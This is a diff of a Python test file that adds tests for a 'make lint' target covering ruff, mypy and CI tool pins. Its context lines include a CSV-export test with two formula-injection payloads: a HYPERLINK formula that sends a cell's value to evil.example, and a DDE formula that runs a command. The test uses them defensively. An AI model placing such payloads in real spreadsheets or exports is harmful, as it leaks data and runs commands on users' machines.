@@ -168,7 +168,7 @@ def test_make_help_and_readme_list_the_same_targets() -> None:
     readme = (PROJECT / 'README.md').read_text(encoding='utf8')
     table = set(re.findall(r'^\| `make ([a-z][\w-]*)', readme, re.M))
     table |= set(re.findall(r'`make ([a-z][\w-]*)`', readme))
-    assert {'diff', 'new', 'scores'} <= listed
+    assert {'lint', 'diff', 'new', 'scores'} <= listed
     assert listed <= table, listed - table
 
 
@@ -349,3 +349,70 @@ def test_score_csv_carries_no_formula(app) -> None:  # type: ignore[no-untyped-d
     assert sources['eq-2020'] == ('=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
                                   "=cmd|' /C calc'!A0")
     assert sources['number-2021'] == ('-5', '-1.5')
+
+
+# --- make lint -----------------------------------------------------------------
+
+
+def _lint_root(tmp_path: Path, files: dict[str, str]) -> Path:
+    """A tiny project with the real Makefile and pyproject.toml, and a venv of
+    wrappers around this one's ruff and mypy."""
+    root = tmp_path / 'lint'
+    root.mkdir()
+    for name in ('Makefile', 'pyproject.toml', 'requirements.txt'):
+        shutil.copyfile(PROJECT / name, root / name)
+    for name, content in files.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_text(content, encoding='utf8')
+    venv = tmp_path / 'venv'
+    (venv / 'bin').mkdir(parents=True)
+    for name in ('ruff', 'mypy'):
+        wrapper = venv / 'bin' / name
+        real = Path(sys.executable).parent / name
+        wrapper.write_text(f'#!/bin/sh\nexec {shlex.quote(str(real))} "$@"\n')
+        wrapper.chmod(0o755)
+    (venv / '.installed').touch()
+    return root
+
+
+CLEAN = {
+    '_ext/kompass/__init__.py': '"""The package."""\n',
+    '_ext/kompass/good.py': 'def double(value: int) -> int:\n    return value * 2\n',
+    # Tests may leave pytest's fixtures unannotated.
+    'tests/test_good.py': ('from kompass.good import double\n\n\n'
+                           'def test_double(tmp_path):\n    assert double(2) == 4\n'),
+    # Each test root has its own conf.py: excluded, or mypy stops at the duplicate.
+    'tests/roots/test-a/conf.py': "extensions = ['kompass']\n",
+    'tests/roots/test-b/conf.py': "extensions = ['kompass']\n",
+}
+
+
+def test_make_lint_passes_clean_code(tmp_path: Path) -> None:
+    root = _lint_root(tmp_path, CLEAN)
+    done = _make(root, 'lint')
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert 'All checks passed!' in done.stdout and 'Success: no issues found' in done.stdout
+
+
+def test_make_lint_fails_on_what_ruff_finds(tmp_path: Path) -> None:
+    root = _lint_root(tmp_path, {**CLEAN, 'tests/test_good.py': 'import os\n'})
+    done = _make(root, 'lint')
+    assert done.returncode != 0
+    assert 'tests/test_good.py:1:8: F401' in done.stdout
+
+
+def test_make_lint_fails_on_what_mypy_finds(tmp_path: Path) -> None:
+    root = _lint_root(tmp_path, {
+        **CLEAN, '_ext/kompass/bad.py': 'def untyped(value):\n    return value\n'})
+    done = _make(root, 'lint')
+    assert done.returncode != 0
+    assert ('_ext/kompass/bad.py:1: error: Function is missing a type annotation  '
+            '[no-untyped-def]') in done.stdout
+
+
+def test_ci_runs_make_lint_with_pinned_tools() -> None:
+    script = (PROJECT / '.ci/run').read_text(encoding='utf8')
+    assert re.search(r'^make lint\b', script, re.M)
+    pins = (PROJECT / 'requirements.txt').read_text(encoding='utf8')
+    for tool in ('ruff', 'mypy', 'jsonschema'):
+        assert re.search(rf'^{tool}==[\d.]+$', pins, re.M), tool
